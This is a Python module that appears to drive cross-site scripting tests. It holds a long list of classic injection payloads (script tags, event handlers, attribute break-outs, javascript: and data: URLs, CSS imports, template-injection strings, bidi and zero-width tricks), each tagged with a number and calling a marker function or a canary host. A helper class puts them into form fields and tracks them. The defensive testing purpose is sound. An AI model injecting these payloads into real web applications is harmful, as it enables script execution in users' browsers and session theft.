"""Classic hostile text, each with a unique number: run, it calls window.__x(n), opens a dialog
with n or fetches http://canary.test/n; shown as text, it is harmless."""

import itertools
from dataclasses import dataclass

CANARY = "canary.test"

# "{n}" is replaced by the payload's unique number.
PAYLOADS = [
    # script elements
    "<script>__x({n})</script>",
    "<ScRiPt >__x({n})</sCrIpT >",
    "<script src=http://canary.test/{n}></script>",
    "<script>alert({n})</script>",
    # event handlers, every quoting style
    "<img src=x onerror=__x({n})>",
    '<img src=x onerror="__x({n})">',
    "<img src=x onerror='__x({n})'>",
    "<img src=x onerror=&#95;&#95;x&#40;{n}&#41;>",
    "<img/src/onerror=__x({n})>",
    "<svg onload=__x({n})>",
    "<body onload=__x({n})>",
    "<details open ontoggle=__x({n})>",
    "<input autofocus onfocus=__x({n})>",
    "<video><source onerror=__x({n})></video>",
    "<marquee onstart=__x({n})>m</marquee>",
    # attribute break-outs
    '"><img src=x onerror=__x({n})>',
    "'><img src=x onerror=__x({n})>",
    '" autofocus onfocus="__x({n})',
    "' autofocus onfocus='__x({n})",
    "` onmouseover=__x({n}) x=`",
    '" onmouseover=__x({n}) x="',
    # script URLs, with entity and white-space tricks
    '<a href="javascript:__x({n})">j{n}</a>',
    '<a href="jav&#x09;ascript:__x({n})">t{n}</a>',
    '<a href=" &#14;  javascript:__x({n})">s{n}</a>',
    '<a href="JaVaScRiPt&colon;__x({n})">c{n}</a>',
    '<a href="data:text/html,<script>parent.__x({n})</script>">d{n}</a>',
    '<a href="vbscript:msgbox({n})">v{n}</a>',
    "javascript:__x({n})//",
    '<iframe src="javascript:parent.__x({n})"></iframe>',
    '<iframe srcdoc="<script>parent.__x({n})</script>"></iframe>',
    '<form action="javascript:__x({n})"><button formaction=javascript:__x({n})>f</button></form>',
    '<object data="http://canary.test/{n}"></object>',
    '<embed src="http://canary.test/{n}">',
    # SVG and MathML
    "<svg><script>__x({n})</script></svg>",
    '<svg><a xlink:href="javascript:__x({n})"><text>x</text></a></svg>',
    "<svg><animate onbegin=__x({n}) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror=__x({n})>",
    '<math href="javascript:__x({n})">m{n}</math>',
    # CSS
    "<style>@import 'http://canary.test/{n}';</style>",
    '<div style="background:url(http://canary.test/{n})">b</div>',
    '<div style="width:expression(__x({n}))">e</div>',
    "<link rel=stylesheet href=http://canary.test/{n}>",
    '<meta http-equiv="refresh" content="0;url=http://canary.test/{n}">',
    '<base href="http://canary.test/{n}/">',
    # broken tags that change the parsing context
    "</title><script>__x({n})</script>",
    "</script><script>__x({n})</script>",
    "</textarea><script>__x({n})</script>",
    "</style><script>__x({n})</script>",
    "<!--<img src=x onerror=__x({n})>-->",
    "--><script>__x({n})</script><!--",
    "]]><script>__x({n})</script>",
    "<![CDATA[<script>__x({n})</script>]]>",
    '<img src="x onerror=__x({n}) ',
    "<img src=x onerror=__x({n})//",
    # template syntax
    "{{{{ __x({n}) }}}} {{{{7*7}}}}",
    '{{% now "Y" %}} {{% debug %}}',
    "${{__x({n})}} #{{__x({n})}}",
    "{{{{constructor.constructor('__x({n})')()}}}}",
    # already escaped, encoded, bidi and zero-width
    "&lt;script&gt;__x({n})&lt;/script&gt;",
    "%3Cscript%3E__x({n})%3C/script%3E",
    "\u202etxt.{n}exe\u202c",
    "<scr\u200bipt>__x({n})</scr\u200bipt>",
    "\ufeff<img src=x onerror=__x({n})>\u2028",
]
# Values for URL fields: the form accepts some of them (http/https only) and refuses the rest.
URL_PAYLOADS = [
    'https://example.org/{n}/"><img/src/onerror=__x({n})>',
    "https://example.org/{n}?q='onmouseover='__x({n})",
    "https://example.org/{n}#</script><svg/onload=__x({n})>",
    "javascript:__x({n})",
    "JaVaScRiPt:__x({n})",
    "data:text/html,<script>__x({n})</script>",
    "vbscript:msgbox({n})",
    " javascript:__x({n})",
]


@dataclass(frozen=True)
class Placed:
    """One payload put in one field: its number, the payload's index and the field."""

    number: int
    payload: int
    field: str


class Dealer:
    """Hands out payloads with fresh numbers, each field starting at another payload, and keeps
    where every number went."""

    def __init__(self, payloads: list[str] = PAYLOADS):
        self.payloads = payloads
        self.numbers = itertools.count(1000)
        self.placed: dict[int, Placed] = {}
        self.start = itertools.count(0, 7)

    def fill(self, field: str, prefix: str, capacity: int | None) -> str:
        """prefix, then as many payloads as fit in capacity characters (all of them if None)."""
        value, start = prefix, next(self.start)
        for offset in range(len(self.payloads)):
            index = (start + offset) % len(self.payloads)
            number = next(self.numbers)
            text = " " + self.payloads[index].format(n=number)
            if capacity is not None and len(value) + len(text) > capacity:
                continue
            value += text
            self.placed[number] = Placed(number, index, field)
        return value
